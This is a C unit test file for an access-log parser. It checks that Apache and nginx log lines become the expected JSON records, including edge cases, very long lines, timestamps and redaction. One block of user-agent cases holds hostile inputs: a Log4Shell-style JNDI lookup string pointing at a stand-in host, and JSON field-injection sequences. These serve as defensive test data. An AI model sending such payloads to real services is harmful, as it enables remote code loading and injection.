#include "check_main.h"
#include "parse_cases.h"

extern const sl_plugin sl_filter_parse, sl_filter_redact;

#define LINE_TIME "\"@timestamp\":\"2000-10-10T20:55:36.000Z\""
#define STAMP     "[10/Oct/2000:13:55:36 -0700]"
#define CLIENT    "\"client\":\"192.0.2.1\","
#define TIME      "\"time\":\"10/Oct/2000:13:55:36 -0700\","
#define GET       "\"method\":\"GET\",\"path\":\"/a\",\"protocol\":\"HTTP/1.1\","
#define OK        "\"status\":200,\"bytes\":12"
#define HEAD      "192.0.2.1 - - " STAMP " \"GET /a HTTP/1.1\" 200 12"
#define BOTH_HEAD "{" LINE_TIME "," CLIENT TIME GET OK

#define KEPT(text)                                                                                           \
    "{" SL_TEST_READ_TIME ",\"message\":\"" text "\",\"parse_error\":\"" SL_TEST_NO_MATCH "\"}\n"

START_TEST(access__every_kind_of_line_has_its_result)
{
    static const sl_line_case cases[] = {
        /* as the manuals of Apache and nginx have them */
        {"apache_common", SL_SPAN("127.0.0.1 - frank " STAMP " \"GET /apache_pb.gif HTTP/1.0\" 200 2326"),
         NULL, NULL,
         "{" LINE_TIME ",\"client\":\"127.0.0.1\",\"user\":\"frank\"," TIME
         "\"method\":\"GET\",\"path\":\"/apache_pb.gif\",\"protocol\":\"HTTP/"
         "1.0\",\"status\":200,\"bytes\":2326}\n"},
        {"apache_combined",
         SL_SPAN("127.0.0.1 - frank " STAMP " \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
                 "\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\""),
         NULL, NULL,
         "{" LINE_TIME ",\"client\":\"127.0.0.1\",\"user\":\"frank\"," TIME
         "\"method\":\"GET\",\"path\":\"/apache_pb.gif\",\"protocol\":\"HTTP/"
         "1.0\",\"status\":200,\"bytes\":2326,"
         "\"referer\":\"http://www.example.com/start.html\",\"agent\":\"Mozilla/4.08 [en] (Win98; I "
         ";Nav)\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"curl/8.5.0\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"curl/8.5.0\"}\n"},
        {"{format: nginx}", SL_SPAN(HEAD " \"-\" \"-\"\r"), NULL, NULL, BOTH_HEAD "}\n"},
        {"nginx", SL_SPAN("\xef\xbb\xbf" HEAD " \"-\" \"-\""), NULL, NULL, BOTH_HEAD "}\n"},
        /* what is written `-`, or nothing */
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"GET /a HTTP/1.1\" 304 -"), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME GET "\"status\":304}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"-\" 408 -"), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME "\"status\":408}\n"},
        {"nginx", SL_SPAN("192.0.2.1 - - " STAMP " \"\" 400 0 \"\" \"\""), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME
         "\"request\":\"\",\"status\":400,\"bytes\":0,\"referer\":\"\",\"agent\":\"\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"-x\""), NULL, NULL, BOTH_HEAD ",\"agent\":\"-x\"}\n"},
        /* clients, users */
        {"apache_common", SL_SPAN("2001:db8::1 id \"\" " STAMP " \"GET /a HTTP/1.1\" 200 12"), NULL, NULL,
         "{" LINE_TIME ",\"client\":\"2001:db8::1\",\"ident\":\"id\",\"user\":\"\\\"\\\"\"," TIME GET OK
         "}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - john van doe " STAMP " \"GET /a HTTP/1.1\" 200 12"), NULL,
         NULL, "{" LINE_TIME "," CLIENT "\"user\":\"john van doe\"," TIME GET OK "}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - a[b] " STAMP " \"GET /a HTTP/1.1\" 200 12"), NULL, NULL,
         "{" LINE_TIME "," CLIENT "\"user\":\"a[b]\"," TIME GET OK "}\n"},
        /* requests */
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"GET /a\" 200 12"), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME "\"method\":\"GET\",\"path\":\"/a\"," OK "}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"M-SEARCH * HTTP/2.0\" 200 12"), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME "\"method\":\"M-SEARCH\",\"path\":\"*\",\"protocol\":\"HTTP/2.0\"," OK
         "}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"GET /a b HTTP/1.1\" 200 12"), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME "\"request\":\"GET /a b HTTP/1.1\"," OK "}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"\\x16\\x03\\x01\" 400 12"), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME
         "\"request\":\"\\\\x16\\\\x03\\\\x01\",\"status\":400,\"bytes\":12}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - - " STAMP " \"GET /\\\"quoted\\\" HTTP/1.1\" 200 12"), NULL,
         NULL,
         "{" LINE_TIME "," CLIENT TIME
         "\"method\":\"GET\",\"path\":\"/\\\\\\\"quoted\\\\\\\"\",\"protocol\":\"HTTP/1.1\"," OK "}\n"},
        /* user agents that are meant to hurt */
        {"nginx", SL_SPAN(HEAD " \"-\" \"a\\\"b\\\\\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"a\\\\\\\"b\\\\\\\\\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"\\\",\\\"x\\\":\\\"\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"\\\\\\\",\\\\\\\"x\\\\\\\":\\\\\\\"\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"tab\there\x01\x1f\x7f\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"tab\\there\\u0001\\u001f\x7f\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"nul\0here\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"nul\\u0000here\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"caf\xc3\xa9 \xf0\x9f\x98\x80\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"caf\xc3\xa9 \xf0\x9f\x98\x80\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"caf\xe9\""), "repaired_total", NULL,
         BOTH_HEAD ",\"agent\":\"caf\xef\xbf\xbd\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"\xff\xfe\" \"\xf0\x9f\x98\""), "repaired_total", NULL,
         BOTH_HEAD ",\"referer\":\"\xef\xbf\xbd\xef\xbf\xbd\",\"agent\":\"\xef\xbf\xbd\"}\n"},
        {"nginx", SL_SPAN(HEAD " \"-\" \"${jndi:ldap://x/a}\""), NULL, NULL,
         BOTH_HEAD ",\"agent\":\"${jndi:ldap://x/a}\"}\n"},
        /* more than the format has, and less */
        {"nginx", SL_SPAN(HEAD " \"-\" \"-\" \"10.0.0.1\" 0.002"), NULL, NULL,
         BOTH_HEAD ",\"extra\":\"\\\"10.0.0.1\\\" 0.002\"}\n"},
        {"apache_common", SL_SPAN(HEAD " \"-\" \"x\""), NULL, NULL,
         BOTH_HEAD ",\"extra\":\"\\\"-\\\" \\\"x\\\"\"}\n"},
        {"nginx", SL_SPAN(HEAD), "errors_total", "no_match",
         KEPT("192.0.2.1 - - " STAMP " \\\"GET /a HTTP/1.1\\\" 200 12")},
        {"nginx", SL_SPAN(HEAD " \"-\" \"cut"), "errors_total", "no_match",
         KEPT("192.0.2.1 - - " STAMP " \\\"GET /a HTTP/1.1\\\" 200 12 \\\"-\\\" \\\"cut")},
        {"nginx", SL_SPAN("oops \xff"), "errors_total", "no_match", KEPT("oops \xef\xbf\xbd")},
        {"nginx", SL_SPAN("{\"a\":1}"), "errors_total", "no_match", KEPT("{\\\"a\\\":1}")},
        {"nginx", SL_SPAN(""), "empty_total", NULL, ""},
        {"nginx", SL_SPAN(" \t\r"), "empty_total", NULL, ""},
        /* times */
        {"apache_common", SL_SPAN("192.0.2.1 - - [soon] \"GET /a HTTP/1.1\" 200 12"), "bad_times_total", NULL,
         "{" SL_TEST_READ_TIME "," CLIENT "\"time\":\"soon\"," GET OK "}\n"},
        {"apache_common", SL_SPAN("192.0.2.1 - - [10/Oct/9999:13:55:36 -0700] \"GET /a HTTP/1.1\" 200 12"),
         "bad_times_total", NULL,
         "{" SL_TEST_READ_TIME "," CLIENT "\"time\":\"10/Oct/9999:13:55:36 -0700\"," GET OK "}\n"},
        {"{format: apache_common, time: {keep: false}}", SL_SPAN(HEAD), NULL, NULL,
         "{" LINE_TIME "," CLIENT GET OK "}\n"},
        {"{format: apache_common, time: {format: \"%d/%b/%Y\"}}",
         SL_SPAN("192.0.2.1 - - [10/Oct/2000] \"GET /a HTTP/1.1\" 200 12"), NULL, NULL,
         "{\"@timestamp\":\"2000-10-10T00:00:00.000Z\"," CLIENT "\"time\":\"10/Oct/2000\"," GET OK "}\n"},
        {"{format: apache_common, types: {status: string}}", SL_SPAN(HEAD), NULL, NULL,
         "{" LINE_TIME "," CLIENT TIME GET "\"status\":\"200\",\"bytes\":12}\n"},
    };
    for (size_t i = 0; i < SL_LEN(cases); i++)
        sl_test_line_check(&cases[i]);
}
END_TEST

/* A megabyte in one field costs no stack, no match limit, and arrives as it is. */
START_TEST(access__a_very_long_line_is_read_whole)
{
    enum { LEN = 1 << 20 };
    static const char fills[] = {'a', '\x01', '\\'};
    for (size_t i = 0; i < SL_LEN(fills); i++) {
        sl_buf line = SL_BUF_NONE, want = SL_BUF_NONE, agent = SL_BUF_NONE;
        for (size_t n = 0; n < LEN; n++)
            sl_buf_append_char(&agent, fills[i]);
        sl_buf_printf(&line, "%s \"-\" \"", HEAD);
        sl_buf_append_span(&line, sl_buf_span(&agent));
        sl_buf_append_char(&line, '"');
        sl_buf_append_cstr(&want, "{" CLIENT TIME GET OK ",\"agent\":");
        sl_json_write_string(&want, sl_buf_span(&agent));
        sl_buf_append_cstr(&want, "}\n");
        sl_test_filter *filter = sl_test_filter_new(&sl_filter_parse, "nginx");
        sl_batch *batch = sl_test_batch_raw(NULL, 0, sl_buf_cstr(&line));
        sl_test_filter_apply(filter, batch);
        sl_test_batch_expect(batch, &want);
        sl_test_filter_free(filter);
        sl_buf_release(&line);
        sl_buf_release(&want);
        sl_buf_release(&agent);
    }
}
END_TEST

/* Each second is read once a batch, but no line gets the time of another. */
START_TEST(access__lines_of_other_seconds_have_their_own_time)
{
    static const char *const times[] = {"36", "36", "37", "36", "38", "38", "xx", "38"};
    sl_buf lines = SL_BUF_NONE;
    for (size_t i = 0; i < SL_LEN(times); i++)
        sl_buf_printf(&lines, "192.0.2.1 - - [10/Oct/2000:13:55:%s -0700] \"GET /a HTTP/1.1\" 200 12\n",
                      times[i]);
    sl_test_filter *filter = sl_test_filter_new(&sl_filter_parse, "apache_common");
    sl_batch *batch = sl_test_batch_raw(NULL, 0, sl_buf_cstr(&lines));
    sl_test_filter_apply(filter, batch);
    for (size_t i = 0; i < SL_LEN(times); i++) {
        int64_t want = INT64_C(971211300) * SL_NS_PER_S +
                       (int64_t)(times[i][0] == '3' ? 36 + times[i][1] - '6' : 0) * SL_NS_PER_S;
        ck_assert_int_eq(batch->recs[i].time_ns, times[i][0] == 'x' ? SL_TEST_TIME_NS : want);
    }
    sl_batch_unref(batch);
    sl_test_filter_free(filter);
    sl_buf_release(&lines);
}
END_TEST

/* What comes behind reads, edits and redacts such a record like any other. */
START_TEST(access__the_steps_behind_see_an_object)
{
    sl_test_filter *parse = sl_test_filter_new(&sl_filter_parse, "nginx");
    sl_test_filter *redact = sl_test_filter_new(&sl_filter_redact, "{keys: [user], detect: [email]}");
    sl_batch *batch = sl_test_batch_raw(NULL, 0,
                                        "192.0.2.1 - anna " STAMP
                                        " \"GET /?to=anna@example.com HTTP/1.1\" 502 12 \"-\" \"-\"\n" HEAD
                                        " \"-\" \"-\"\n");
    sl_test_filter_apply(parse, batch);
    sl_err err = SL_ERR_NONE;
    sl_condition *failed = sl_condition_parse(SL_SPAN("status >= 500 and path startswith \"/\""), &err);
    sl_template *index = sl_template_parse(SL_SPAN("access-%Y.%m-{{ method }}"), &err);
    ck_assert_msg(failed && index, "%s", err.text);
    sl_reader reader = {0};
    sl_buf name = SL_BUF_NONE;
    for (uint32_t i = 0; i < 2; i++) {
        sl_reader_set(&reader, batch, &batch->recs[i]);
        ck_assert_int_eq(sl_condition_eval(failed, &reader), i == 0);
        sl_buf_clear(&name);
        ck_assert_int_eq(sl_template_write(index, &reader, &name), 0);
        ck_assert_str_eq(sl_buf_cstr(&name), "access-2000.10-GET");
    }
    sl_test_filter_apply(redact, batch);
    ck_assert_str_eq(sl_test_batch_written(batch),
                     "{" LINE_TIME "," CLIENT "\"user\":\"[REDACTED]\"," TIME
                     "\"method\":\"GET\",\"path\":\"/?to=[REDACTED]\",\"protocol\":\"HTTP/"
                     "1.1\",\"status\":502,\"bytes\":12}\n" BOTH_HEAD "}\n");
    sl_buf_release(&name);
    sl_reader_release(&reader);
    sl_condition_free(failed);
    sl_template_free(index);
    sl_test_filter_free(parse);
    sl_test_filter_free(redact);
}
END_TEST

/* An earlier step has made objects of lines: they are lines still. */
START_TEST(access__takes_wrapped_lines_and_leaves_objects_alone)
{
    sl_test_filter *filter = sl_test_filter_new(&sl_filter_parse, "apache_common");
    sl_batch *batch = sl_test_batch_raw(NULL, 0, HEAD "\n{\"a\":1}\n");
    uint32_t count;
    sl_record_tokens(batch, &batch->recs[0], &count);
    sl_record_parse_json(batch, &batch->recs[1]);
    sl_test_filter_apply(filter, batch);
    ck_assert_str_eq(sl_test_batch_written(batch), BOTH_HEAD "}\n{" SL_TEST_READ_TIME ",\"a\":1}\n");
    sl_test_filter_free(filter);
}
END_TEST

SL_TEST_MAIN("parse_access", access__every_kind_of_line_has_its_result,
             access__a_very_long_line_is_read_whole, access__lines_of_other_seconds_have_their_own_time,
             access__the_steps_behind_see_an_object, access__takes_wrapped_lines_and_leaves_objects_alone)
